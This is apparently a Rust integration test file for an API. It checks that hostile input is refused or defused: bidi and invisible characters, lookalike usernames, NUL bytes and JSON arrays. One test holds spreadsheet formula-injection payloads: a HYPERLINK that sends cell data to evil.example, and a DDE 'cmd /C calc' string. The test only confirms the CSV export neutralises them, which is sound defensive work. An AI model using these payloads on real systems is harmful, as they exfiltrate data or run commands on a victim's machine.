//! Input at the edge, as a hostile member would send it: names that hide or reorder
//! characters, lookalike usernames, formulas for the auditor's spreadsheet, NUL
//! characters, and JSON arrays in place of objects. The last two are also walked over
//! every operation of the OpenAPI document.

use serde_json::{Value, json};
use sitrep_types::Role;

use crate::helpers::access_log::{auditor_token, broken, download, public_key};
use crate::helpers::pictures::{cast, content};
use crate::helpers::world::{World, concrete, world};
use crate::helpers::{TestApp, problem};

/// The first field error of a `422`: (field, code).
async fn refused(res: reqwest::Response) -> (String, String) {
    let body = problem(res, 422).await;
    let e = &body["errors"][0];
    (e["field"].as_str().unwrap_or_default().to_owned(), e["code"].as_str().unwrap_or_default().to_owned())
}

fn pair(field: &str, code: &str) -> (String, String) {
    (field.to_owned(), code.to_owned())
}

#[tokio::test]
async fn bidi_overrides_zero_width_and_unnormalised_text_are_refused_in_every_kind_of_name() {
    let app = TestApp::spawn().await;
    let cast = cast(&app).await;
    let sec = app.token(&app.seed_user("sec.edge", "S", &[Role::Secretariat]).await).await;
    let admin = app.token(&app.seed_user("admin.edge", "A", &[Role::OrgAdmin]).await).await;
    let reader = app.seed_user("reader.edge", "A", &[Role::Reader]).await;
    let a = app.org("A");

    let mut picture = content("group", "AMBER");
    picture["title"]["en"] = json!("Invoice \u{202E}fdp.exe");
    let res = app.post_json("/api/v1/pictures", Some(&cast.author), &picture).await;
    assert_eq!(refused(res).await, pair("title.en", "bidi_control"));
    let mut picture = content("group", "AMBER");
    picture["summary"]["sv"] = json!("Sms\u{200B} sprids");
    let res = app.post_json("/api/v1/pictures", Some(&cast.author), &picture).await;
    assert_eq!(refused(res).await, pair("summary.sv", "invisible_character"));
    let mut picture = content("group", "AMBER");
    picture["details"] = json!({"fi": "Va\u{308}a\u{308}rinka\u{308}sitys"});
    let res = app.post_json("/api/v1/pictures", Some(&cast.author), &picture).await;
    assert_eq!(refused(res).await, pair("details.fi", "not_normalised"));

    let cases: Vec<(&str, &str, Value, &str, &str)> = vec![
        (
            "/api/v1/organisations",
            &sec,
            json!({"code": "ORG-EVIL", "name": {"en": "Evil\u{2060}Org"}, "reach": "member"}),
            "name.en",
            "invisible_character",
        ),
        (
            "/api/v1/elections",
            &sec,
            json!({"code": "FI-EDGE-2027", "election_type": "parliamentary", "name_en": "Vaalit \u{2067}2027"}),
            "name_en",
            "bidi_control",
        ),
        ("/api/v1/communities", &sec, json!({"code": "EDGE", "name_en": "\u{3164}"}), "name_en", "invisible_character"),
        (
            "/api/v1/users",
            &admin,
            json!({"username": "new.person", "display_name": "Mikko\u{202E}", "password": "correct-horse-battery-staple",
                   "organisation_id": a, "roles": ["reader"]}),
            "display_name",
            "bidi_control",
        ),
        (
            "/api/v1/service-accounts",
            &admin,
            json!({"name": "feed", "roles": ["reader"], "description": "SOC \u{FEFF}feed"}),
            "description",
            "invisible_character",
        ),
        (
            "/api/v1/subscriptions",
            &admin,
            json!({"organisation_id": a, "name": "SOC\u{200D}"}),
            "name",
            "invisible_character",
        ),
    ];
    for (path, token, body, field, code) in cases {
        let res = app.post_json(path, Some(token), &body).await;
        assert_eq!(refused(res).await, pair(field, code), "{path}");
    }
    let res =
        app.patch_json(&format!("/api/v1/users/{}", reader.id), &admin, &json!({"display_name": "\u{200B}"})).await;
    assert_eq!(refused(res).await, pair("display_name", "invisible_character"));

    // What people write is kept: letters of any script, emoji with their selectors.
    let res = app
        .post_json("/api/v1/subscriptions", Some(&admin), &json!({"organisation_id": a, "name": "⚠️ Ääkköset Пример"}))
        .await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap_or_default());
}

#[tokio::test]
async fn a_lookalike_of_an_existing_username_cannot_be_created() {
    let app = TestApp::spawn().await;
    let admin = app.token(&app.seed_user("admin.edge", "A", &[Role::OrgAdmin]).await).await;
    app.seed_user("mikko.admin", "A", &[Role::Reader]).await;
    let a = app.org("A");
    let user = |username: &str| {
        json!({"username": username, "display_name": "X", "password": "correct-horse-battery-staple",
               "organisation_id": a, "roles": ["reader"]})
    };
    for lookalike in ["rnikko.admin", "MIKKO.ADMIN", "mikko.adrnin"] {
        let res = app.post_json("/api/v1/users", Some(&admin), &user(lookalike)).await;
        assert_eq!(problem(res, 409).await["code"], "username_taken", "{lookalike}");
    }
    // Other scripts are not letters a username may hold at all.
    let res = app.post_json("/api/v1/users", Some(&admin), &user("mikko.\u{430}dmin")).await;
    assert_eq!(refused(res).await, pair("username", "invalid_characters"));
    let res = app.post_json("/api/v1/users", Some(&admin), &user("mikko.other")).await;
    assert_eq!(res.status(), 201);

    let account = |name: &str| json!({"name": name, "roles": ["reader"]});
    let res = app.post_json("/api/v1/service-accounts", Some(&admin), &account("soc-feed")).await;
    assert_eq!(res.status(), 201);
    let res = app.post_json("/api/v1/service-accounts", Some(&admin), &account("s0c-feed")).await;
    assert_eq!(res.status(), 409);
}

#[tokio::test]
async fn login_finds_an_account_by_a_lookalike_of_its_name_and_counts_its_failures_under_one_key() {
    let app = TestApp::spawn().await;
    let anna = app.seed_user("anna.k", "A", &[Role::Reader]).await;
    for lookalike in ["ANNA.K", "\u{430}nna.k", "\u{FF41}nn\u{430}.k"] {
        let res = app.login_response(lookalike, &anna.password).await;
        assert_eq!(res.status(), 200, "{lookalike:?}");
    }
    for lookalike in ["anna.k", "\u{430}nna.k"] {
        assert_eq!(app.login_response(lookalike, "wrong-password-wrong").await.status(), 401);
    }
    let db = app.pool.get().await.unwrap();
    // Both lookalikes count under the one account key (and its pair with this address).
    let rows = db
        .query("SELECT throttle_key, failures FROM login_throttle WHERE throttle_key LIKE 'account:%'", &[])
        .await
        .unwrap();
    let rows: Vec<(String, i32)> = rows.iter().map(|r| (r.get(0), r.get(1))).collect();
    assert_eq!(rows, vec![("account:anna.k".to_owned(), 2)]);

    let res = app.login_response("anna\u{202E}k.", &anna.password).await;
    assert_eq!(refused(res).await, pair("username", "bidi_control"));
    let res = app.login_response("anna\u{200B}.k", &anna.password).await;
    assert_eq!(refused(res).await, pair("username", "invisible_character"));
}

/// Two migrations had comments reworded after they shipped. A database that applied the
/// shipped text migrates again (its record takes the new checksum); one whose record
/// matches neither text is still refused, as any edited migration is.
#[tokio::test]
async fn a_database_that_applied_the_shipped_text_of_a_reworded_migration_still_migrates() {
    let app = TestApp::spawn().await;
    let db = app.pool.get().await.unwrap();
    let checksums = || async {
        let db = app.pool.get().await.unwrap();
        let rows = db
            .query("SELECT checksum FROM refinery_schema_history WHERE version IN (1, 8) ORDER BY version", &[])
            .await
            .unwrap();
        rows.iter().map(|r| r.get::<_, String>(0)).collect::<Vec<_>>()
    };
    let now = checksums().await;
    for (v, shipped) in [(1, "7657987610499372895"), (8, "14409208794616846178")] {
        db.execute("UPDATE refinery_schema_history SET checksum = $2 WHERE version = $1", &[&v, &shipped])
            .await
            .unwrap();
    }
    sitrep_db::migrate::run(&app.db_url).await.unwrap();
    assert_eq!(checksums().await, now, "the record has the reworded text's checksum");

    db.execute("UPDATE refinery_schema_history SET checksum = '1' WHERE version = 8", &[]).await.unwrap();
    let err = sitrep_db::migrate::run(&app.db_url).await.unwrap_err();
    assert!(format!("{err:#}").contains("access_log_sealer"), "{err:#}");
}

#[tokio::test]
async fn accounts_get_their_fold_when_migrations_run_and_the_older_of_two_lookalikes_keeps_it() {
    let app = TestApp::spawn().await;
    let older = app.seed_user("olli.k", "A", &[Role::Reader]).await;
    let newer = app.seed_user("xlli.k", "A", &[Role::Reader]).await;
    let db = app.pool.get().await.unwrap();
    // As a database from before folds were kept: no folds, and two names that look alike.
    db.execute("UPDATE users SET username = '0lli.k' WHERE id = $1", &[&newer.id]).await.unwrap();
    db.execute("UPDATE users SET username_fold = NULL", &[]).await.unwrap();
    sitrep_db::migrate::run(&app.db_url).await.unwrap();
    let folds = db.query("SELECT id, username_fold FROM users", &[]).await.unwrap();
    let fold =
        |id: uuid::Uuid| folds.iter().find(|r| r.get::<_, uuid::Uuid>(0) == id).unwrap().get::<_, Option<String>>(1);
    assert_eq!(fold(older.id).as_deref(), Some("olli.k"));
    assert_eq!(fold(newer.id), None);
    assert_eq!(folds.iter().filter(|r| r.get::<_, Option<String>>(1).is_none()).count(), 1);
    // The older answers to lookalikes, the newer to its exact name only.
    assert_eq!(who(&app, app.login_response("\u{43E}LLI.K", &older.password).await).await, json!(older.id));
    assert_eq!(who(&app, app.login_response("0lli.k", &newer.password).await).await, json!(newer.id));
}

/// The user a login response's token speaks for.
async fn who(app: &TestApp, login: reqwest::Response) -> Value {
    assert_eq!(login.status(), 200);
    let token = login.json::<Value>().await.unwrap()["access_token"].as_str().unwrap().to_owned();
    app.get("/api/v1/me", Some(&token)).await.json::<Value>().await.unwrap()["user_id"].clone()
}

#[tokio::test]
async fn a_formula_in_a_failed_login_is_defused_in_the_csv_export_which_still_verifies() {
    let app = TestApp::spawn().await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;
    assert_eq!(app.login_response(formula, "wrong-password-wrong").await.status(), 401);
    assert_eq!(app.login_response("@SUM(1+1)*cmd|' /C calc'!A0", "wrong-password-wrong").await.status(), 401);
    let token = auditor_token(&app).await;
    let file = app.data_dir.join("export.csv");
    download(&app, &token, "csv", &file).await;
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains(r#","'=hyperlink(""https://evil.example/?""&a1,""open"")","#), "{text}");
    assert!(text.contains(r#","'@sum(1+1)*cmd|' /c calc'!a0","#), "{text}");
    for line in text.lines() {
        assert!(!line.contains(",\"=") && !line.contains(",\"@"), "{line}");
    }
    let key = public_key(&app);
    let report = sitrep_server::access_log::verify_file(&file, &key, vec![], false).unwrap();
    assert!(report.records >= 3);

    for tampered in [text.replace("evil.example", "evil.exampl3"), text.replace(",\"'=hyperlink", ",\"''=hyperlink")] {
        assert_ne!(tampered, text);
        std::fs::write(&file, &tampered).unwrap();
        broken(sitrep_server::access_log::verify_file(&file, &key, vec![], false));
    }
}

#[tokio::test]
async fn a_nul_is_refused_naming_the_field_in_login_search_and_access_log_filters_even_without_a_token() {
    let app = TestApp::spawn().await;
    let res = app.post_json("/api/v1/auth/login", None, &json!({"username": "admin\u{0}", "password": "x"})).await;
    assert_eq!(refused(res).await, pair("username", "control_character"));
    let res = app.post_json("/api/v1/auth/login", None, &json!({"username": "admin", "password": "x\u{0}"})).await;
    assert_eq!(refused(res).await, pair("password", "control_character"));

    let reader = app.token(&app.seed_user("reader.edge", "A", &[Role::Reader]).await).await;
    let res = app.get("/api/v1/pictures?q=vaali%00", Some(&reader)).await;
    assert_eq!(refused(res).await, pair("q", "control_character"));
    let res = app.get("/api/v1/pictures?q=vaali%00", None).await;
    assert!(res.status().is_client_error(), "{}", res.status());

    let auditor = auditor_token(&app).await;
    for name in ["action", "object_type", "object_id"] {
        let res = app.get(&format!("/api/v1/access-log?{name}=a%00b"), Some(&auditor)).await;
        assert_eq!(refused(res).await, pair(name, "control_character"));
        let res = app.get(&format!("/api/v1/access-log?{name}=a%00b"), None).await;
        assert!(res.status().is_client_error(), "{name}: {}", res.status());
    }

    // A NUL in a path is recorded as the replacement character, not lost in a 500.
    let res = app.get("/api/v1/pictures/a%00b", None).await;
    assert_eq!(res.status(), 401);
    let record = app.audit_of(&res).await;
    assert_eq!(record.object_id.as_deref(), Some("a\u{FFFD}b"));
}

#[tokio::test]
async fn positional_json_arrays_rename_nobody_and_are_refused_naming_the_body() {
    let app = TestApp::spawn_with(|s| s.auth.login.per_address_per_minute = 100_000).await;
    let w = world(&app).await;
    let sec = app.token(&w.users["secretariat"]).await;
    let admin = app.token(&w.users["a_admin"]).await;
    let p = |k: &str| w.params[k].clone();
    let cases = [
        (format!("/api/v1/users/{}", p("user")), &admin, json!(["Renamed", null, null])),
        (format!("/api/v1/users/{}", p("user")), &admin, json!([null, null, "new-password-from-array"])),
        (format!("/api/v1/elections/{}", p("election")), &sec, json!(["Renamed", null])),
        (format!("/api/v1/service-accounts/{}", p("service_account")), &admin, json!(["Renamed", null, null])),
        (format!("/api/v1/subscriptions/{}", p("subscription")), &admin, json!(["Renamed"])),
        (format!("/api/v1/organisations/{}", p("organisation")), &sec, json!([{"en": "Renamed"}])),
    ];
    for (path, token, body) in &cases {
        let res = app.patch_json(path, token, body).await;
        assert_eq!(refused(res).await, pair("body", "invalid_type"), "{path}");
    }
    let author = app.token(&w.users["a_author"]).await;
    let res = app.post_json("/api/v1/pictures", Some(&author), &json!(["alert"])).await;
    assert_eq!(refused(res).await, pair("body", "invalid_type"));
    let user: Value = app.get(&format!("/api/v1/users/{}", p("user")), Some(&admin)).await.json().await.unwrap();
    assert_eq!(user["display_name"], "m.a.reader");
    let reader = app.login_response("m.a.reader", &w.users["a_reader"].password).await;
    assert_eq!(reader.status(), 200, "the password is unchanged");
}

// ---------------------------------------------------------------------------------------
// Walks over the OpenAPI document.

/// A schema with `$ref` followed and an optional value's `null` alternative dropped.
fn resolve<'a>(doc: &'a Value, schema: &'a Value) -> &'a Value {
    if let Some(r) = schema["$ref"].as_str() {
        let name = r.trim_start_matches("#/components/schemas/");
        return resolve(doc, &doc["components"]["schemas"][name]);
    }
    for key in ["oneOf", "anyOf", "allOf"] {
        if let Some(alts) = schema[key].as_array()
            && let Some(s) = alts.iter().find(|s| s["type"] != "null")
        {
            return resolve(doc, s);
        }
    }
    schema
}

fn type_of(schema: &Value) -> &str {
    match &schema["type"] {
        Value::String(t) => t,
        Value::Array(ts) => ts.iter().filter_map(Value::as_str).find(|t| *t != "null").unwrap_or("null"),
        _ if schema["enum"].is_array() => "string",
        _ => "object",
    }
}

/// A value of the schema with every property present and every array holding one item.
fn example(doc: &Value, schema: &Value) -> Value {
    let s = resolve(doc, schema);
    if let Some(first) = s["enum"].as_array().and_then(|e| e.iter().find(|v| !v.is_null())) {
        return first.clone();
    }
    match type_of(s) {
        "object" => Value::Object(
            s["properties"]
                .as_object()
                .map(|props| props.iter().map(|(k, v)| (k.clone(), example(doc, v))).collect())
                .unwrap_or_default(),
        ),
        "array" => json!([example(doc, &s["items"])]),
        "integer" | "number" => json!(1),
        "boolean" => json!(false),
        _ => match s["format"].as_str() {
            Some("uuid") => json!(uuid::Uuid::new_v4()),
            Some("date-time") => json!("2030-01-01T00:00:00Z"),
            Some("date") => json!("2030-01-01"),
            _ => json!("x-value-of-sixteen+"),
        },
    }
}

/// The JSON paths (keys and array indexes) of every string in `value`.
fn string_paths(value: &Value, at: &mut Vec<Value>, out: &mut Vec<Vec<Value>>) {
    match value {
        Value::String(_) => out.push(at.clone()),
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                at.push(json!(i));
                string_paths(v, at, out);
                at.pop();
            }
        }
        Value::Object(map) => {
            for (k, v) in map {
                at.push(json!(k));
                string_paths(v, at, out);
                at.pop();
            }
        }
        _ => {}
    }
}

fn set_at(value: &mut Value, path: &[Value], new: Value) {
    let mut slot = value;
    for step in path {
        slot = match step {
            Value::String(k) => &mut slot[k.as_str()],
            Value::Number(i) => &mut slot[usize::try_from(i.as_u64().unwrap()).unwrap()],
            _ => unreachable!(),
        };
    }
    *slot = new;
}

struct Op {
    method: String,
    path: String,
    params: Vec<(String, String)>,
    body: Option<Value>,
}

fn operations(doc: &Value) -> Vec<Op> {
    let mut ops = Vec::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, op) in item.as_object().unwrap() {
            let params = op["parameters"]
                .as_array()
                .map(|ps| {
                    ps.iter()
                        .map(|p| (p["in"].as_str().unwrap().to_owned(), p["name"].as_str().unwrap().to_owned()))
                        .collect()
                })
                .unwrap_or_default();
            let body = op["requestBody"]["content"]["application/json"]["schema"].clone();
            let body = (!body.is_null()).then(|| resolve(doc, &body).clone());
            ops.push(Op { method: method.to_uppercase(), path: path.clone(), params, body });
        }
    }
    ops
}

async fn tokens(app: &TestApp, w: &World) -> Vec<(&'static str, Option<String>)> {
    let mut out = vec![("anon", None)];
    for name in ["secretariat", "a_admin", "a_author", "auditor"] {
        out.push((name, Some(app.token(&w.users[name]).await)));
    }
    out
}

async fn send(
    app: &TestApp,
    method: &str,
    url: &str,
    token: &Option<String>,
    body: Option<&Value>,
) -> reqwest::StatusCode {
    let mut req = app.client.request(method.parse().unwrap(), app.url(url));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    if let Some(b) = body {
        req = req.json(b);
    }
    if url.starts_with("/taxii2/") {
        req = req.header("accept", crate::helpers::taxii::ACCEPT);
    }
    req.send().await.unwrap().status()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nul_in_any_string_parameter_or_field_of_any_operation_answers_no_server_error() {
    let app = TestApp::spawn_with(|s| {
        s.auth.login.per_address_per_minute = 100_000;
        s.delivery.worker = false;
    })
    .await;
    let w = world(&app).await;
    let callers = tokens(&app, &w).await;
    let doc: Value = serde_json::from_str(&sitrep_api::docs::openapi_json()).unwrap();
    let mut requests = Vec::new();
    for op in operations(&doc) {
        for (place, name) in &op.params {
            match place.as_str() {
                "path" => {
                    let url = concrete(&op.path.replace(&format!("{{{name}}}"), "a%00b"), &w);
                    requests.push((op.method.clone(), url, None, format!("path {name}")));
                }
                "query" => {
                    let url = format!("{}?{name}=a%00b", concrete(&op.path, &w));
                    requests.push((op.method.clone(), url, None, format!("query {name}")));
                }
                // HTTP itself refuses a NUL in a header value (RFC 9110 5.5): it never
                // reaches the service.
                _ => {}
            }
        }
        if let Some(schema) = &op.body {
            let base = example(&doc, schema);
            let mut paths = Vec::new();
            string_paths(&base, &mut Vec::new(), &mut paths);
            for path in paths {
                let mut body = base.clone();
                set_at(&mut body, &path, json!("a\u{0}b"));
                requests.push((op.method.clone(), concrete(&op.path, &w), Some(body), format!("body {path:?}")));
            }
        }
    }
    assert!(requests.len() > 150, "{} requests", requests.len());
    let mut server_errors = Vec::new();
    let mut refused = 0;
    for (method, url, body, what) in &requests {
        for (caller, token) in &callers {
            let status = send(&app, method, url, token, body.as_ref()).await;
            if status.is_server_error() {
                server_errors.push(format!("{method} {url} {what} as {caller}: {status}"));
            }
            refused += usize::from(status == 422 || status == 400);
        }
    }
    assert!(server_errors.is_empty(), "{}", server_errors.join("\n"));
    assert!(refused > 100, "only {refused} requests reached the NUL check");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_operation_takes_a_json_array_where_its_schema_says_object() {
    let app = TestApp::spawn_with(|s| {
        s.auth.login.per_address_per_minute = 100_000;
        s.delivery.worker = false;
    })
    .await;
    let w = world(&app).await;
    let callers = tokens(&app, &w).await;
    let doc: Value = serde_json::from_str(&sitrep_api::docs::openapi_json()).unwrap();
    let mut refused = 0;
    let mut wrong = Vec::new();
    for op in operations(&doc) {
        let Some(schema) = &op.body else { continue };
        if type_of(schema) != "object" {
            continue;
        }
        // serde's positional form: the values of the fields in declaration order.
        let example = example(&doc, schema);
        let positional = Value::Array(example.as_object().unwrap().values().cloned().collect());
        let url = concrete(&op.path, &w);
        for (caller, token) in &callers {
            let res = send_for_body(&app, &op.method, &url, token, &positional).await;
            let status = res.status();
            // Refused before the body is read (401, 403, 404, 409), or refused as a body.
            let field = if status == 422 {
                res.json::<Value>().await.unwrap()["errors"][0]["field"].clone()
            } else {
                json!(null)
            };
            if status == 422 && field == "body" {
                refused += 1;
            } else if status.is_success() || status.is_server_error() || status == 422 {
                wrong.push(format!("{} {url} as {caller}: {status} {field}", op.method));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(refused > 40, "only {refused} requests reached the body");
}

async fn send_for_body(
    app: &TestApp,
    method: &str,
    url: &str,
    token: &Option<String>,
    body: &Value,
) -> reqwest::Response {
    let mut req = app.client.request(method.parse().unwrap(), app.url(url)).json(body);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.unwrap()
}
